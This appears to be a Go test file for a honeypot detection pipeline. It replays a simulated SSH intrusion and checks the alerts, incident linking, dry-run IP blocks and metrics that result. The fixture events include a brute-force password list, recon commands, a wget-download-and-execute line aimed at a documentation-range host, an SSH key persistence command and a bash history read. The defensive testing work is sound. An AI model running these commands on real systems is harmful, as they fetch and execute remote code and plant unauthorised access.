package pipeline_test

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/deception/token"
	"honeyguide/internal/detect"
	"honeyguide/internal/detect/behaviour"
	"honeyguide/internal/detect/correlate"
	"honeyguide/internal/detect/finding"
	tokendetect "honeyguide/internal/detect/token"
	"honeyguide/internal/detect/violation"
	"honeyguide/internal/eventlog"
	"honeyguide/internal/eventlog/memory"
	"honeyguide/internal/pipeline"
	"honeyguide/internal/playbook"
	"honeyguide/internal/respond"
	"honeyguide/internal/respond/blockip"
	"honeyguide/internal/runs"
	"honeyguide/internal/state"
	"honeyguide/internal/state/sqlite"
	"honeyguide/internal/telemetry"
	"honeyguide/rules"
)

var (
	noon   = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	reader = "203.0.113.7"
	buyer  = "198.51.100.44"
)

// A world is everything between the sensors and the state.
type world struct {
	t         testing.TB
	log       eventlog.Store
	state     state.Store
	intake    *pipeline.Intake
	metrics   *telemetry.Registry
	tokens    []*token.Token
	cfg       pipeline.Config
	responder pipeline.Responder
	extra     []pipeline.Detector
}

func newWorld(t testing.TB) *world {
	t.Helper()
	w := &world{t: t, metrics: telemetry.NewRegistry()}
	w.log = memory.Open(eventlog.Deps{})
	var err error
	if w.state, err = sqlite.Open(t.Context(), sqlite.Config{}, state.Deps{Dir: t.TempDir(), Now: clock}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = w.state.Close() })
	w.mint()
	reg, err := token.NewRegistry(w.tokens...)
	if err != nil {
		t.Fatal(err)
	}
	w.intake, err = pipeline.NewIntake(t.Context(), pipeline.IntakeDeps{
		Log: w.log, State: w.state, Facts: []pipeline.Fact{reg.Uses}, Metrics: w.metrics, Now: clock,
	})
	if err != nil {
		t.Fatal(err)
	}
	w.responder = w.playbooks()
	return w
}

// clock stands still a minute after the story ends: all that is raised has one
// time, so that runs can be compared.
func clock() time.Time { return noon.Add(time.Hour) }

// faces are minted once, so that the runs of one test can be compared.
var faces = sync.OnceValue(func() []honeyguide.Honeytoken {
	var out []honeyguide.Honeytoken
	for _, spec := range token.StarterSpecs("debian-12", "http", "deploy") {
		tok, err := minter().Mint(spec, noon)
		if err != nil {
			panic(err)
		}
		out = append(out, tok.Public())
	}
	return out
})

func minter() *token.Minter {
	m, err := token.NewMinter([]byte("a secret of the test, 32 bytes.."), token.Place{Host: "db.decoy.internal"})
	if err != nil {
		panic(err)
	}
	return m
}

func (w *world) mint() {
	for _, face := range faces() {
		tok, err := minter().Restore(face)
		if err != nil {
			w.t.Fatal(err)
		}
		w.tokens = append(w.tokens, tok)
		if err := w.state.Update(w.t.Context(), func(tx state.Tx) error { return tx.Tokens().Save(w.t.Context(), &face) }); err != nil {
			w.t.Fatal(err)
		}
	}
}

func (w *world) playbooks() pipeline.Responder {
	g, err := respond.NewGuard(respond.Defaults(), func() ([]respond.Local, error) { return nil, nil })
	if err != nil {
		w.t.Fatal(err)
	}
	block, err := blockip.Kind.Open(w.t.Context(), nil, respond.Deps{Guard: g})
	if err != nil {
		w.t.Fatal(err)
	}
	books, err := playbook.Load(rules.Playbooks, "playbooks")
	if err != nil {
		w.t.Fatal(err)
	}
	e, err := runs.New(w.t.Context(), runs.Config{}, runs.Deps{
		State: w.state, Shelf: playbook.NewShelf(books), Actions: map[string]respond.Action{"block_ip": block}, Now: clock,
	})
	if err != nil {
		w.t.Fatal(err)
	}
	return e
}

// detectors opens every kind.
func (w *world) detectors(ctx context.Context) ([]pipeline.Detector, error) {
	out := slices.Clone(w.extra)
	for _, k := range (detect.Set{behaviour.Kind, correlate.Kind, tokendetect.Kind, finding.Kind, violation.Kind}) {
		d, err := k.Open(ctx, nil, detect.Deps{})
		if err != nil {
			return nil, err
		}
		out = append(out, pipeline.Detector{Name: k.Name, Detector: d})
	}
	return out, nil
}

func (w *world) consumer() *pipeline.Consumer {
	return pipeline.NewConsumer(w.cfg, pipeline.Deps{
		Log: w.log, State: w.state, Detectors: w.detectors, Responder: w.responder, Metrics: w.metrics, Now: clock,
		Recording: func(s string) string { return s + ".cast" },
	})
}

// run judges everything in the log and stops.
func (w *world) run() {
	w.t.Helper()
	_, last, err := w.log.Ends(w.t.Context())
	if err != nil {
		w.t.Fatal(err)
	}
	c := w.consumer()
	ctx, stop := context.WithCancel(w.t.Context())
	ended := make(chan error, 1)
	go func() { ended <- c.Run(ctx) }()
	idle := make(chan error, 1)
	go func() { idle <- c.Idle(ctx, last) }()
	select {
	case err := <-ended:
		w.t.Fatal("consumer ended: ", err)
	case err := <-idle:
		if err != nil {
			w.t.Fatal(err)
		}
	}
	stop()
	if err := <-ended; !errors.Is(err, context.Canceled) {
		w.t.Fatal(err)
	}
}

func (w *world) add(events ...honeyguide.Event) {
	w.t.Helper()
	if err := w.intake.Add(w.t.Context(), events); err != nil {
		w.t.Fatal(err)
	}
}

// found is what the state holds.
type found struct {
	alerts    []honeyguide.Alert
	incidents []honeyguide.Incident
	sessions  []honeyguide.Session
	plans     []honeyguide.Plan
	blocks    []honeyguide.Block
	tokens    []honeyguide.Honeytoken
}

func (w *world) found() found {
	w.t.Helper()
	var f found
	ctx, page := w.t.Context(), state.Page{Limit: 1000}
	err := w.state.View(ctx, func(tx state.Tx) error {
		var errs [6]error
		f.alerts, _, errs[0] = tx.Alerts().List(ctx, state.AlertQuery{Page: page})
		f.incidents, _, errs[1] = tx.Incidents().List(ctx, state.IncidentQuery{Page: page})
		f.sessions, _, errs[2] = tx.Sessions().List(ctx, state.SessionQuery{Page: page})
		f.plans, _, errs[3] = tx.Plans().List(ctx, state.PlanQuery{Page: page})
		f.blocks, _, errs[4] = tx.Plans().Blocks(ctx, page)
		f.tokens, _, errs[5] = tx.Tokens().List(ctx, page)
		return errors.Join(errs[:]...)
	})
	if err != nil {
		w.t.Fatal(err)
	}
	return f
}

func (f found) alert(rule string) honeyguide.Alert {
	for _, a := range f.alerts {
		if a.RuleID == rule {
			return a
		}
	}
	return honeyguide.Alert{}
}

// A script makes the events of one source.
type script struct {
	src, service, session string
	n                     int
	at                    time.Time
	out                   []honeyguide.Event
}

func (s *script) do(activity string, attrs ...string) *script {
	s.n++
	s.at = s.at.Add(2 * time.Second)
	e := honeyguide.Event{
		ID: fmt.Sprintf("%s-%s-%03d", s.session, s.service, s.n), Time: s.at, Class: honeyguide.ClassSSH, Activity: activity,
		Severity: honeyguide.SeverityInformational, Sensor: s.service, Service: s.service, Session: s.session,
		Src: honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.MustParseAddr(s.src), 40000)},
		Dst: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("192.0.2.10:22")},
	}
	for i := 0; i+1 < len(attrs); i += 2 {
		e.Set(attrs[i], attrs[i+1])
	}
	s.out = append(s.out, e)
	return s
}

func (s *script) command(line string) *script {
	return s.do(honeyguide.ActivityCommand, honeyguide.AttrCommand, line)
}

// story is one whole attack: guessing, log-in, looking around, a download,
// persistence, bait read; an hour's quarter later the bait is used from
// elsewhere.
func (w *world) story() []honeyguide.Event {
	a := &script{src: reader, service: "ssh", session: "sess-a", at: noon}
	a.do(honeyguide.ActivityConnect).do(honeyguide.ActivityClient, honeyguide.AttrClient, "SSH-2.0-Go")
	for _, pw := range []string{"123456", "admin", "root", "password", "toor", "qwerty"} {
		a.do(honeyguide.ActivityLoginFailed, honeyguide.AttrUser, "root", honeyguide.AttrPassword, pw)
	}
	a.do(honeyguide.ActivityLoginSuccess, honeyguide.AttrUser, "root", honeyguide.AttrPassword, "1234")
	for _, line := range []string{
		"uname -a", "id; w", "cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp && wget http://198.51.100.23/x.sh; chmod +x x.sh; ./x.sh",
		"mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nz e2e' >> ~/.ssh/authorized_keys", "cat ~/.bash_history",
	} {
		a.command(line)
	}
	pw := w.tokens[2]
	a.do(honeyguide.ActivityTokenExposed, honeyguide.AttrToken, pw.ID(), honeyguide.AttrTokenKind, "password", honeyguide.AttrCommand, "cat ~/.bash_history")
	a.do(honeyguide.ActivityClose)
	b := &script{src: buyer, service: "http", session: "sess-b", at: noon.Add(15 * time.Minute)}
	c := pw.Credentials()[0]
	b.do(honeyguide.ActivityConnect)
	b.do(honeyguide.ActivityLoginSuccess, honeyguide.AttrUser, c.User, honeyguide.AttrPassword, c.Password)
	b.do(honeyguide.ActivityClose)
	return append(a.out, b.out...)
}

func TestWholeAttack(t *testing.T) {
	w := newWorld(t)
	w.add(w.story()...)
	w.run()
	f := w.found()
	for rule, want := range map[string]honeyguide.Severity{
		"decoy_contact": honeyguide.SeverityLow, "brute_force": honeyguide.SeverityMedium, "success_after_failures": honeyguide.SeverityHigh,
		"decoy_login": honeyguide.SeverityMedium, "recon_commands": honeyguide.SeverityMedium, "download_cradle": honeyguide.SeverityHigh,
		"persistence_ssh_key": honeyguide.SeverityHigh, "token_exposed": honeyguide.SeverityMedium, "token_used": honeyguide.SeverityCritical,
	} {
		if got := f.alert(rule); got.Severity != want {
			t.Errorf("%s is %s, want %s", rule, got.Severity, want)
		}
	}
	explained(t, f.alerts)
	used := f.alert("token_used")
	if text := used.Evidence[0].Text; used.Src.Addr.Addr().String() != buyer || !strings.Contains(text, reader) || !strings.Contains(text, "cat ~/.bash_history") || !strings.Contains(text, "14m32s") {
		t.Errorf("use: %q", text)
	}
	if strings.Contains(fmt.Sprint(used), w.tokens[2].Credentials()[0].Password) {
		t.Error("the alert shows the planted password")
	}
	checkIncident(t, f)
	checkSessions(t, f)
	tok := f.tokens[slices.IndexFunc(f.tokens, func(x honeyguide.Honeytoken) bool { return x.ID == w.tokens[2].ID() })]
	if tok.Exposures != 1 || tok.Uses != 1 {
		t.Errorf("token: %+v", tok)
	}
	var text strings.Builder
	if _, err := w.metrics.WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"honeytoken_triggers_total 2\n", `honeyguide_category_events_total{category="lateral_movement"} 0`, "honeyguide_incidents_opened_total 1\n"} {
		if !strings.Contains(text.String(), line) {
			t.Errorf("metrics lack %q", line)
		}
	}
}

// explained checks that every score is the clamped sum of its reasons.
func explained(t *testing.T, alerts []honeyguide.Alert) {
	t.Helper()
	for _, a := range alerts {
		sum := 0.0
		for _, r := range a.Reasons {
			sum += r.Weight
			if r.Feature == "" || !strings.HasSuffix(r.Text, ".") {
				t.Errorf("%s: reason %+v is no sentence", a.RuleID, r)
			}
		}
		if want := min(max(sum, 0), 100); len(a.Reasons) == 0 || a.Score < want-.01 || a.Score > want+.01 {
			t.Errorf("%s: score %v, reasons sum up to %v", a.RuleID, a.Score, sum)
		}
		if a.RuleID == "token_used" && a.Score < 90 {
			t.Errorf("token_used scores %v", a.Score)
		}
	}
}

func checkIncident(t *testing.T, f found) {
	t.Helper()
	if len(f.incidents) != 1 {
		for _, in := range f.incidents {
			t.Logf("%s %s %s %s", in.Short, in.Key, in.Title, in.Status)
		}
		t.Fatalf("%d incidents, want one that links both", len(f.incidents))
	}
	in := f.incidents[0]
	if in.Key != "attacker:"+reader || in.Severity != honeyguide.SeverityCritical || !slices.Equal(in.Attackers, []string{reader, buyer}) ||
		!slices.Equal(in.Sessions, []string{"sess-a", "sess-b"}) || in.Phase != honeyguide.PhaseNew || !in.DueAt.Equal(clock().Add(15*time.Minute)) {
		t.Errorf("incident: %+v", in)
	}
	if in.AlertCount != int64(len(f.alerts)) {
		t.Errorf("incident counts %d alerts, there are %d", in.AlertCount, len(f.alerts))
	}
	for _, a := range f.alerts {
		if a.Incident != in.ID {
			t.Errorf("%s of %s stands outside the incident", a.RuleID, a.Attacker)
		}
	}
	if len(f.blocks) != 2 {
		t.Fatalf("blocks %+v", f.blocks)
	}
	for _, b := range f.blocks {
		if b.State != honeyguide.PlanPlanned || b.Mode != "dry_run" || b.ExpiresAt.Before(clock()) {
			t.Errorf("block: %+v", b)
		}
	}
}

func checkSessions(t *testing.T, f found) {
	t.Helper()
	i := slices.IndexFunc(f.sessions, func(s honeyguide.Session) bool { return s.ID == "sess-a" })
	if len(f.sessions) != 2 || i < 0 {
		t.Fatalf("sessions: %+v", f.sessions)
	}
	s := f.sessions[i]
	if s.Events != 17 || s.Logins != 7 || s.Commands != 6 || s.User != "root" || s.Client != "SSH-2.0-Go" || s.EndedAt.IsZero() ||
		len(s.Tokens) != 1 || s.Severity != honeyguide.SeverityHigh || s.Recording != "sess-a.cast" || !s.StartedAt.Equal(noon.Add(2*time.Second)) {
		t.Errorf("session: %+v", s)
	}
}
